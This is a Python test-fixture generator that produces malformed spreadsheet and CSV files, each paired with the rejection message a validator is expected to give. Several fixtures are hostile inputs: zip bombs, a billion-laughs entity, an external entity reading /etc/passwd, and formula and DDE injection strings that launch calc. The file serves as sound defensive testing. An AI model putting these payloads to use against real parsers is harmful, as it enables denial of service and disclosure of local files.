"""Makes malformed files: 25 kinds in 8 variations each, two in a quick run, seeded: always the same."""

import codecs
import io
import random
import struct
import zipfile
import zlib

from seeds import tries

HEAD = ["city_code", "variable", "period", "value", "source_id"]
GOOD = ["340100", "hospitals", "2012", "173", "ccsy"]
XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
SPREADSHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml"


# Building blocks: a workbook from raw parts, a table as CSV.


def letters(column):
    name = ""
    column += 1
    while column:
        column, rest = divmod(column - 1, 26)
        name = chr(65 + rest) + name
    return name


def text_cell(name, text):
    return f'<c r="{name}" t="inlineStr"><is><t>{text}</t></is></c>'


def number_cell(name, text):
    return f'<c r="{name}"><v>{text}</v></c>'


def rows_xml(rows):
    lines = []
    for i, row in enumerate(rows, start=1):
        cells = [
            cell if cell.startswith("<c") else text_cell(f"{letters(j)}{i}", cell)
            for j, cell in enumerate(row)
            if cell
        ]
        lines.append(f'<row r="{i}">{"".join(cells)}</row>')
    return "".join(lines)


def sheet_xml(rows, *, after="", before="", prolog=XML):
    body = rows if isinstance(rows, str) else rows_xml(rows)
    return f"{prolog}<worksheet {MAIN}>{before}<sheetData>{body}</sheetData>{after}</worksheet>"


def parts(sheet, names=("Data",), extra=None):
    kinds = "".join(
        f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="{SPREADSHEET}.worksheet+xml"/>'
        for i in range(1, len(names) + 1)
    )
    sheets = "".join(f'<sheet name="{n}" sheetId="{i}" r:id="rId{i}"/>' for i, n in enumerate(names, start=1))
    links = "".join(
        f'<Relationship Id="rId{i}" Type="{OFFICE}/worksheet" Target="worksheets/sheet{i}.xml"/>'
        for i in range(1, len(names) + 1)
    )
    found = {
        "[Content_Types].xml": f'{XML}<Types xmlns="{PACKAGE}/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{SPREADSHEET}.sheet.main+xml"/>{kinds}</Types>',
        "_rels/.rels": f'{XML}<Relationships xmlns="{PACKAGE}/relationships">'
        f'<Relationship Id="rId1" Type="{OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'{XML}<workbook {MAIN} xmlns:r="{OFFICE}"><sheets>{sheets}</sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'{XML}<Relationships xmlns="{PACKAGE}/relationships">'
        f"{links}</Relationships>",
    }
    found |= {f"xl/worksheets/sheet{i}.xml": sheet for i in range(1, len(names) + 1)}
    return found | (extra or {})


def packed(members):
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in members.items():
            package.writestr(name, content)
    return target.getvalue()


def workbook(rows, **options):
    return packed(parts(sheet_xml(rows, **options)))


def csv_bytes(rows, sign=","):
    return "\n".join(sign.join(row) for row in rows).encode() + b"\n"


def with_value(text):
    return [HEAD, GOOD, [*GOOD[:2], "2011", text, "ccsy"]]


def raw_zip(members, declared=None):
    """Write a zip from (name, deflated bytes, inflated size); ``declared`` replaces the stated size."""
    body, directory, offset = [], [], 0
    for name, data, size in members:
        stated = size if declared is None else declared
        encoded = name.encode()
        common = struct.pack("<HHHHHIII", 20, 0, 8, 0, 33, 0, len(data), min(stated, 0xFFFFFFFE))
        local = b"PK\x03\x04" + common + struct.pack("<HH", len(encoded), 0) + encoded + data
        entry = (
            b"PK\x01\x02\x14\x00"
            + common
            + struct.pack("<HHHHHII", len(encoded), 0, 0, 0, 0, 0, offset)
            + encoded
        )
        body.append(local)
        directory.append(entry)
        offset += len(local)
    index = b"".join(directory)
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, len(members), len(members), len(index), offset, 0)
    return b"".join(body) + index + end


def deflated(content):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(content) + packer.flush()


def endless(megabytes, filler):
    """Return deflate data that inflates to that many megabytes, made from one repeated block."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(filler * (1_000_000 // len(filler))) + packer.flush(zlib.Z_FULL_FLUSH)
    return block * megabytes + packer.flush()


def bomb(part, megabytes, declared=None):
    members = parts(sheet_xml([HEAD, GOOD]))
    members.pop(part, None)
    listed = [(name, deflated(text.encode()), len(text.encode())) for name, text in members.items()]
    return raw_zip(
        [*listed, (part, endless(megabytes, b"<row></row>" * 10), megabytes * 1_000_000)], declared
    )


# The kinds: each takes a variation from 0 to 7 and a seeded generator, and returns suffix and bytes.


def truncated(v, rng):
    whole = workbook([HEAD, *([GOOD] * 200)])
    return ".xlsx", whole[: max(40, len(whole) * (v + 1) // 10)]


_SIGNS = [
    b"\x89PNG\r\n\x1a\n",
    b"%PDF-1.7\n",
    b"\x7fELF\x02\x01\x01",
    b"GIF89a",
    b"\xff\xd8\xff\xe0",
    b"\x1f\x8b\x08\x00",
    b"{\\rtf1",
    b"MZ\x90\x00",
]


def wrong_type_xlsx(v, rng):
    return ".xlsx", _SIGNS[v] + rng.randbytes(5000)


def wrong_type_csv(v, rng):
    zipped = workbook([HEAD, GOOD])
    return ".csv", [
        *(sign + rng.randbytes(5000) for sign in _SIGNS[:6]),
        zipped,
        b"SQLite format 3\0" + bytes(900),
    ][v]


def bomb_honest(v, rng):
    targets = ["xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/styles.xml", "xl/media/image1.bin"]
    return ".xlsx", bomb(targets[v % 4], 500 * (v + 1))


def bomb_lying(v, rng):
    targets = ["xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/styles.xml", "xl/media/image1.bin"]
    return ".xlsx", bomb(targets[v % 4], 500 * (v + 1), declared=1000 + v)


def bomb_overlapping(v, rng):
    """Many directory entries that all point at one packed stretch of the file."""
    whole = workbook([HEAD, *([GOOD] * 50)])
    start = whole.index(b"PK\x01\x02")
    entry = whole[start : whole.index(b"PK\x01\x02", start + 4)]
    count = 200 * (v + 1)
    copies = [entry.replace(b"[Content_Types].xml", f"x/{i:013d}.xml".encode()) for i in range(count)]
    index = whole[start : whole.index(b"PK\x05\x06")] + b"".join(copies)
    total = 5 + count
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, total, total, len(index), start, 0)
    return ".xlsx", whole[:start] + index + end


def million_columns_csv(v, rng):
    sign = ",;\t|"[v % 4]
    names = sign.join(f"v{i}" for i in range(1_000_000)) if v < 4 else sign * 1_000_000
    return ".csv", (names + ("\n" + sign.join("12345") if v % 2 else "") + "\n").encode()


def million_columns_xlsx(v, rng):
    if v < 4:
        columns = (1_000_000, 300_000, 100_000, 20_000)[v]
        cells = "".join(f"<c><v>{rng.random()}</v></c>" for _ in range(columns))
    else:
        cells = text_cell("A1", "city_code") + number_cell(f"{['XFD', 'XFA', 'ZZZ', 'DZZ'][v - 4]}1", "1")
    return ".xlsx", workbook(f'<row r="1">{cells}</row>')


def macro(v, rng):
    rows = [HEAD, GOOD]
    if v < 2:
        return [".xlsm", ".xlsb"][v], workbook(rows)
    if v < 6:
        place = ["xl/vbaProject.bin", "xl/VBAPROJECT.BIN", "vbaProject.bin", "xl/macros/vbaProject.bin"][
            v - 2
        ]
        return ".xlsx", packed(parts(sheet_xml(rows), extra={place: rng.randbytes(3000)}))
    members = parts(sheet_xml(rows))
    kind = [
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        "application/vnd.ms-excel.template.MACROENABLED",
    ]
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
        f"{SPREADSHEET}.sheet.main+xml", kind[v - 6]
    )
    return ".xlsx", packed(members)


_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1 if i > 1 else str()};" * 10}">' for i in range(1, 10))
    + "]>"
)
_OUTSIDE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'


def entity(v, rng):
    members = parts(sheet_xml([HEAD, GOOD]))
    names = [
        "xl/worksheets/sheet1.xml",
        "xl/workbook.xml",
        "xl/_rels/workbook.xml.rels",
        "[Content_Types].xml",
    ]
    if v == 6:
        members["xl/sharedStrings.xml"] = f"{XML}{_LAUGHS}<sst {MAIN}><si><t>&lol9;</t></si></sst>"
    elif v == 7:
        text = sheet_xml([HEAD, GOOD], prolog='<?xml version="1.0" encoding="UTF-16"?>' + _LAUGHS)
        members[names[0]] = codecs.BOM_UTF16_LE + text.encode("utf-16-le")
    else:
        name = names[v % 4]
        members[name] = members[name].replace(XML, XML + (_LAUGHS if v < 4 else _OUTSIDE))
    return ".xlsx", packed(members)


def merged(v, rng):
    spans = ["A2:A3", "D2:D3", "A2:E2", "B3:C3", "C2:C4", "A3:B3", "D3:E4", "A2:B3"]
    rows = [HEAD, GOOD, [*GOOD[:2], "2011", "170", "ccsy"], [*GOOD[:2], "2010", "160", "ccsy"]]
    return ".xlsx", workbook(rows, after=f'<mergeCells count="1"><mergeCell ref="{spans[v]}"/></mergeCells>')


def wrong_encoding(v, rng):
    head = "city_code,variable,period,value,source_id\n"
    text = head + "合肥市,hospitals,2012,173,ccsy\n芜湖市,hospitals,2012,90,ccsy\n"
    french = head + "Besançon à côté,hospitals,2012,173,ccsy\n"
    return ".csv", [
        text.encode("utf-16-le"),
        text.encode("utf-16-be"),
        text.encode("utf-16-be") * 2,
        text.encode("gbk"),
        text.encode("gb18030") * 3,
        french.encode("latin-1"),
        french.encode("cp1252") * 2,
        text.encode("utf-32"),
    ][v]


_FORMULAS = [
    "=HYPERLINK('http://x.test'&A1)",
    "=1+1",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(1))",
    "=173",
    "=DDE(1)",
]


def formula_text(v, rng):
    return ".csv", csv_bytes(with_value(_FORMULAS[v]))


def formula_cells(v, rng):
    cached = "" if v % 2 else "<v>170</v>"
    column = "ABCDE"[v % 5]
    rows = with_value("170")
    rows[2] = [
        f'<c r="{column}3"><f>1+{v}</f>{cached}</c>' if c == column else t
        for c, t in zip("ABCDE", rows[2], strict=True)
    ]
    return ".xlsx", workbook(rows)


_ERRORS = ["#REF!", "#DIV/0!", "#N/A", "#NAME?", "#NULL!", "#NUM!", "#VALUE!", "#SPILL!"]


def error_cells(v, rng):
    return ".xlsx", workbook(with_value(f'<c r="D3" t="e"><v>{_ERRORS[v]}</v></c>'))


def empty(v, rng):
    return [
        (".csv", b""),
        (".xlsx", b""),
        (".csv", b"\n\n  \n"),
        (".csv", codecs.BOM_UTF8),
        (".xlsx", workbook([])),
        (".xlsx", raw_zip([])),
        (".xlsx", packed({"a.txt": "x"})),
        (".txt", b" "),
    ][v]


def header_only(v, rng):
    heads = [
        HEAD,
        [*HEAD, "unit"],
        ["city", "period", "hospitals", "source"],
        ["city", "period", "variable", "value"],
    ]
    return (".csv", csv_bytes([heads[v]])) if v < 4 else (".xlsx", workbook([heads[v - 4]]))


def duplicated_header(v, rng):
    twice = ["value", "city_code", "variable", "period"][v % 4]
    rows = [[*HEAD, twice], [*GOOD, GOOD[HEAD.index(twice)]]]
    return (".csv", csv_bytes(rows)) if v < 4 else (".xlsx", workbook(rows))


def ole(v, rng):
    sign = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    name = "EncryptedPackage".encode("utf-16-le") if v < 4 else "Workbook".encode("utf-16-le")
    return [".xlsx", ".csv"][v % 2], sign + bytes(1000 + 100 * v) + name + rng.randbytes(2000)


def open_quote(v, rng):
    rows = [HEAD, *([GOOD] * (3 + 100 * v))]
    rows[2 + v] = [*GOOD[:2], '"2012', "173", "ccsy"]
    return ".csv", csv_bytes(rows)


def nul_bytes(v, rng):
    content = bytearray(csv_bytes([HEAD, *([GOOD] * 50)]))
    for _ in range(1 + v):
        content.insert(rng.randrange(len(content)), 0)
    return ".csv", bytes(content)


def not_finite(v, rng):
    return ".csv", csv_bytes(
        with_value(["inf", "-inf", "nan", "NaN", "Infinity", "1e999", "-1e999", "+inf"][v])
    )


def long_line(v, rng):
    filler = ["x" * 3_000_000, "1," * 1_500_000, '"' + "y" * 3_000_000 + '"', " " * 2_500_000][v % 4]
    rows = csv_bytes([HEAD, GOOD])
    return ".csv", rows + filler.encode() + (b"\n" + rows if v > 3 else b"")


def many_sheets(v, rng):
    names = [f"S{i}" for i in range(300 + 150 * v)]
    return ".xlsx", packed(parts(sheet_xml([HEAD, GOOD]), names=names))


def huge_extent(v, rng):
    if v == 4:  # no sheet is too large alone, and 25 of them are
        rows = rows_xml([["city_code"]]) + f'<row r="1048576">{number_cell("C1048576", 1)}</row>'
        return ".xlsx", packed(parts(sheet_xml(rows), names=[f"S{i}" for i in range(25)]))
    corner = [
        "XFD1048576",
        "BXW1048576",
        "E1048576",
        "XFD2",
        "",
        "AAA900000",
        "J9999999",
        "CV500000",
    ][v]
    rows = (
        rows_xml([HEAD, GOOD])
        + f'<row r="{corner.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")}">{number_cell(corner, 1)}</row>'
    )
    return ".xlsx", workbook(rows, before='<dimension ref="A1:XFD1048576"/>')


KINDS = {
    "truncated": (truncated, "damaged or cut short"),
    "wrong-type-xlsx": (wrong_type_xlsx, "is an? .*; submit|does not start like a"),
    "wrong-type-csv": (wrong_type_csv, "ends in .csv, but the file is an? "),
    "bomb-honest": (bomb_honest, "overload a server"),
    "bomb-lying": (bomb_lying, "overload a server|more rows or cells than"),
    "bomb-overlapping": (bomb_overlapping, "overload a server"),
    "million-columns-csv": (million_columns_csv, "columns, but at most|a line is longer than"),
    "million-columns-xlsx": (million_columns_xlsx, "columns, but at most"),
    "macro": (macro, "macro"),
    "entity": (entity, "document type or entities|not encoded in UTF-8"),
    "merged": (merged, "are merged.*unmerge them"),
    "wrong-encoding": (wrong_encoding, "UTF-16|GBK|Windows-1252|NUL bytes"),
    "formula-text": (
        formula_text,
        "is a formula stored as text, not a number; replace the formula with its value",
    ),
    "formula-cells": (formula_cells, "contains a formula.*replace the formula with its value"),
    "error-cells": (error_cells, "is a spreadsheet error"),
    "empty": (empty, "empty|not an Excel workbook|no table of observations"),
    "header-only": (header_only, "headings but no figures"),
    "duplicated-header": (duplicated_header, "appears 2 times"),
    "ole": (ole, "encrypted workbook|old .xls format"),
    "open-quote": (open_quote, "quotation mark is opened but never closed"),
    "nul-bytes": (nul_bytes, "NUL bytes"),
    "not-finite": (not_finite, "is not a finite number|is not a number"),
    "long-line": (long_line, "a line is longer than"),
    "many-sheets": (many_sheets, "sheets, but at most"),
    "huge-extent": (huge_extent, "cells can be read|columns, but at most|more rows or cells than"),
}
VARIATIONS = range(tries(8, least=2))
FILES = [(kind, v) for kind in KINDS for v in VARIATIONS]


def make(kind, variation):
    """Return suffix and bytes of one malformed file."""
    return KINDS[kind][0](variation, random.Random(f"{kind} {variation}"))
